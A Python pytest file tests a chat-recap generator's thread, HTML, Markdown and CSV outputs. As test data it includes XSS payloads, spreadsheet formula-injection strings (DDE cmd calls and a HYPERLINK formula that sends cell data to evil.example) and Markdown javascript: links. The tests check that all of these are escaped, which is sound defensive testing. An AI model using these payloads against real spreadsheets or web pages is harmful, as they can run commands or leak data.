"""The recap's thread and files, built from a stored chat: lengths, caps, hiding, escaping."""

from __future__ import annotations

import csv
import struct
from pathlib import Path

import pytest

from chatbot.recap import build_recap
from chatbot.recap.build import Recap
from chatbot.recap.thread import mentions_in
from chatbot.render.length import weighted_length
from chatbot.storage.repository import Repository
from tests.recap.world import WEEK1, WEEK2, ChatWorld, chat_spec, question_set, user

HIDDEN = ("trollbot", "SecretSam")
XSS_SCRIPT = "<script>alert(1)</script>"
XSS_IMG = "<img src=x onerror=alert(1)>"
TRICKY = 'A2: Prices, "fair" ones,\nand a second line; ok? #SMBchat'


def handles(n: int) -> list[str]:
    """Distinct handles of X's shapes, up to 15 characters."""
    return [f"{'user' if i % 2 else 'Owner_'}{i:02d}{'x' * (i % 7)}"[:15] for i in range(n)]


def big_chat(store: Repository, *, people: int = 60) -> ChatWorld:
    """A chat with many participants, two hidden users and hostile text."""
    week1 = ChatWorld(store, local_date="2026-01-06", start=WEEK1)
    week1.question(1, minute=2)
    for i, name in enumerate(handles(people)[:40]):
        week1.post(user(name, uid=100 + i), "A1: hi #SMBchat", minute=3)
    week1.save()

    w = ChatWorld(store, local_date="2026-01-13", start=WEEK2)
    w.question(1, minute=2)
    first = None
    for i, name in enumerate(handles(people)):
        u = user(name, uid=100 + i, followers=10 * i, name=f"{name} 🚀 店")
        pid = w.post(
            u, f"A1: Answer number {i} with some words 🎉 #SMBchat", minute=3 + i % 9, likes=i
        )
        first = first or pid
    for j, name in enumerate(HIDDEN):
        hidden_user = user(name, uid=900 + j, followers=5000)
        w.post(hidden_user, "A1: buy followers at spam.example #SMBchat", minute=4, likes=500)
    w.question(2, minute=12)
    evil = user("mallory", uid=990, name="<b>Mallory</b>")
    w.post(evil, f"A2: {XSS_SCRIPT} and {XSS_IMG} #SMBchat", minute=13, likes=1000)
    w.post(user("tricky", uid=991), TRICKY, minute=14)
    w.post(
        user("ann", uid=992),
        "@trollbot @SecretSam you two again? #SMBchat",
        minute=15,
        reply_to=first,
    )
    w.question(3, minute=20)
    w.post(
        user("bea", uid=993),
        "A3 see https://example.com/very/long/link #SMBchat",
        minute=21,
        likes=3,
    )
    w.save(hidden={"trollbot"})  # hidden during the chat; SecretSam only afterwards
    store.hide_user(chat_slug="smb", username="trollbot", by="mod", now=w.at(30))
    store.hide_user(chat_slug="smb", username="SecretSam", by="mod", now=w.at(61))
    return w


@pytest.fixture
def recap(store: Repository, tmp_path: Path) -> Recap:
    w = big_chat(store)
    chat = chat_spec(max_mentions_per_post=5, max_mentions=30)
    return build_recap(store, chat, question_set(), w.occurrence_id, out_dir=tmp_path)


def test_every_thread_post_fits_and_mentions_respect_the_caps(recap: Recap) -> None:
    assert all(weighted_length(p) <= 280 for p in recap.posts), recap.posts
    assert all(len(mentions_in([p])) <= 5 for p in recap.posts)
    assert len(mentions_in(recap.posts)) <= 30
    assert recap.posts[0].startswith("Thanks for joining #SMBchat")
    assert "(1/" in recap.posts[0]
    assert all("https://" not in p and "example.com" not in p for p in recap.posts)


def test_shoutouts_name_only_people_who_answered_and_count_the_rest(recap: Recap) -> None:
    assert len(recap.posts) == 1 + len(recap.highlights) + 1  # headline, a post a question, thanks
    shoutout = recap.posts[-1]
    named = [n.lstrip("@") for n in mentions_in([shoutout])]
    assert len(named) == len(set(named)) == 5  # max_mentions_per_post
    answered = {*handles(60), "mallory", "tricky", "bea"}  # ann only replied
    assert set(named) <= answered
    new = {*handles(60)[40:], "mallory", "tricky", "bea"}  # not in week 1
    assert f"+{len(new) - len(new & set(named))} more" in shoutout
    assert f"Thanks to all {len(answered)} of you who answered" in shoutout
    assert "first-timers" in shoutout


def test_hidden_users_are_named_nowhere(recap: Recap) -> None:
    texts = [*recap.posts]
    for path in (recap.files.markdown, recap.files.html, recap.files.csv):
        texts.append(path.read_text(encoding="utf-8"))
    everything = "\n".join(texts).lower()
    for name in HIDDEN:
        assert name.lower() not in everything
    assert "@hidden you two again?" in everything


def test_html_renders_hostile_text_inert(recap: Recap) -> None:
    page = recap.files.html.read_text(encoding="utf-8")
    assert "<script>alert" not in page and "<img src=x" not in page
    # The page's own scripts only: one with each question's posts, one that draws them.
    assert page.count("<script") == page.count("</script>") == 3 + 1
    assert "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e" in page  # posts, as JSON
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page  # the highlight, as HTML
    assert "&lt;img src=x onerror=alert(1)&gt;" in page
    assert "&lt;b&gt;Mallory&lt;/b&gt;" in page
    assert 'src="data:image/png;base64,' in page
    assert "https://x.com/mallory/status/" in page
    markdown = recap.files.markdown.read_text(encoding="utf-8")
    assert "<script" not in markdown and "<img" not in markdown


def test_csv_has_one_row_per_participant_post(recap: Recap, store: Repository) -> None:
    assert recap.occurrence_id is not None
    expected = {
        p.id: p.text
        for p in store.collected_posts(recap.occurrence_id)
        if not p.from_host and p.author_username.lower() not in {h.lower() for h in HIDDEN}
    }
    with recap.files.csv.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    hidden = "'@hidden @hidden"  # the apostrophe keeps a spreadsheet from running it
    assert {int(r["id"]): r["text"] for r in rows} == {
        i: t.replace("@trollbot @SecretSam", hidden) for i, t in expected.items()
    }
    assert len(rows) == len(expected)
    assert TRICKY in [r["text"] for r in rows]
    assert {r["question"] for r in rows} >= {"1", "2", "3"}
    assert all(r["time"].endswith("+00:00") for r in rows)


def test_chart_is_a_png_of_sane_size(recap: Recap) -> None:
    data = recap.files.chart.read_bytes()
    assert data[:8] == b"\x89PNG\r\n\x1a\n"
    width, height = struct.unpack(">II", data[16:24])
    assert (width, height) == (1000, 600)
    assert 10_000 < len(data) < 1_000_000


def test_recap_is_drafted_or_awaits_approval(store: Repository, tmp_path: Path) -> None:
    w = big_chat(store, people=5)
    built = build_recap(store, chat_spec(), question_set(), w.occurrence_id, out_dir=tmp_path)
    assert built.state == "draft"
    chat = chat_spec(require_approval=True)
    again = build_recap(store, chat, question_set(), w.occurrence_id, out_dir=tmp_path)
    assert again.state == "awaiting_approval"
    assert again.files.directory == tmp_path / "smb" / "2026-01-13"
    assert sorted(p.name for p in again.files.directory.iterdir()) == [
        "activity.png",
        "posts.csv",
        "recap.html",
        "recap.md",
    ]


def test_an_empty_chat_still_gets_a_recap(store: Repository, tmp_path: Path) -> None:
    w = ChatWorld(store, local_date="2026-01-13", start=WEEK2)
    w.question(1, minute=2)
    w.save()
    chat = chat_spec(max_mentions=0)
    recap = build_recap(store, chat, question_set(), w.occurrence_id, out_dir=tmp_path)
    assert recap.stats.participants == 0 and recap.stats.busiest_minute is None
    assert mentions_in(recap.posts) == []
    assert all(weighted_length(p) <= 280 for p in recap.posts)
    assert recap.files.chart.read_bytes()[:4] == b"\x89PNG"
    assert "No answers." in recap.files.html.read_text(encoding="utf-8")


FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
]


def test_csv_cells_never_start_a_formula(store: Repository, tmp_path: Path) -> None:
    """OWASP's CSV injection advice: a leading =, +, -, @, tab, CR or LF gets an apostrophe,
    and every cell is quoted so a separator or quote cannot start a cell of its own."""
    w = ChatWorld(store, local_date="2026-01-13", start=WEEK2)
    w.question(1, minute=2)
    texts = [*FORMULAS, 'A1: fine, =1+2";=3+4', "A1: a, b; =1+2 #SMBchat", "'=quoted already"]
    for i, text in enumerate(texts):
        w.post(user(f"p{i}", uid=300 + i), text, minute=3)
    w.save()
    recap = build_recap(store, chat_spec(), question_set(), w.occurrence_id, out_dir=tmp_path)
    with recap.files.csv.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    by_author = {row[2]: row for row in rows[1:]}
    for i, text in enumerate(texts):
        expected = f"'{text}" if text[0] in "=+-@\t\r\n" else text
        assert by_author[f"p{i}"][6] == expected
    assert all(len(row) == len(rows[0]) for row in rows)
    assert all(not cell or cell[0] not in "=+-@\t\r\n" for row in rows for cell in row)
    with recap.files.csv.open(encoding="utf-8", newline="") as handle:
        records = handle.read().split("\r\n")  # a cell's own newlines are "\n" or "\r"
    assert all(r.startswith('"') and r.endswith('"') for r in records if r)  # all quoted


def test_markdown_keeps_links_images_and_markup_inert(store: Repository, tmp_path: Path) -> None:
    w = ChatWorld(store, local_date="2026-01-13", start=WEEK2)
    w.question(1, minute=2)
    hostile = [
        "A1: [click me](javascript:alert(1)) for our menu #SMBchat",
        "A1: ![pixel](https://evil.example/p.png) lovely #SMBchat",
        "A1: <img src=x onerror=alert(1)> and `code` **bold** | cell | #SMBchat",
        "# A heading\n> a quote\n- a list #SMBchat",
    ]
    for i, text in enumerate(hostile):
        w.post(user(f"m{i}", uid=400 + i), text, minute=3, likes=i)
    w.save()
    recap = build_recap(store, chat_spec(), question_set(), w.occurrence_id, out_dir=tmp_path)
    markdown = recap.files.markdown.read_text(encoding="utf-8")
    assert "](javascript:" not in markdown and "![pixel](" not in markdown
    assert r"\[click me\]\(javascript:alert\(1\)\)" in markdown
    assert "<img" not in markdown and "&lt;img src=x onerror=alert\\(1\\)&gt;" in markdown
    assert r"\`code\` \*\*bold\*\* \| cell \|" in markdown
    assert r"\# A heading &gt; a quote - a list" in markdown  # one line, no block markup
    page = recap.files.html.read_text(encoding="utf-8")
    assert 'href="javascript:' not in page and "<img src=x" not in page
